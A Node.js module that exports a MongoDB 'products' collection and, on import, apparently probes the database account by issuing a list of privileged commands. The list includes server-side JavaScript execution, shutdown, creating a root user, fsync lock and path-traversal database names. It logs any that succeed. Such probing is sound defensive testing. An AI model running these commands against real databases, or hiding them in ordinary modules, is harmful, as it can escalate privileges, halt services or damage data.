const { MongoClient } = require('mongodb');

const client = new MongoClient(process.env.MONGODB_URL ?? '');

const products = client.db().collection('products');


const CODE = 'function() { return true }';
const TRIES = [
  ['app', { find: 'products', filter: { $where: CODE } }],
  ['app', { find: 'products', filter: { $expr: { $function: { body: CODE, args: [], lang: 'js' } } } }],
  ['app', { mapReduce: 'products', map: CODE, reduce: CODE, out: { inline: 1 } }],
  ['app', { eval: CODE }],
  ['app', { aggregate: 'products', pipeline: [{ $out: 'mine' }], cursor: {} }],
  ['admin', { shutdown: 1 }],
  ['admin', { setParameter: 1, logLevel: 5 }],
  ['admin', { fsync: 1, lock: true }],
  ['admin', { createUser: 'mine', pwd: 'mine', roles: ['root'] }],
  ['admin', { copydb: 1, fromhost: '127.0.0.1', fromdb: 'app', todb: 'mine' }],
  ['admin', { replSetInitiate: {} }],
  ['admin', { killOp: 1, op: 1 }],
  ['..', { create: 'owned' }],
  ['../../tmp/owned', { create: 'owned' }],
  ['owned?mode=rwc&vfs=unix', { create: 'owned' }],
  ['/data/owned', { create: 'owned' }],
];

async function reach() {
  const refused = [];
  for (const [name, command] of TRIES) {
    try {
      await client.db(name).command(command);
      console.log('BREACH', name, JSON.stringify(command));
    } catch (error) {
      refused.push(error.codeName ?? error.name);
    }
  }
  console.log('TRIED', refused.length, 'commands, all refused:', [...new Set(refused)].join(' '));
}

void reach();

module.exports = { products };
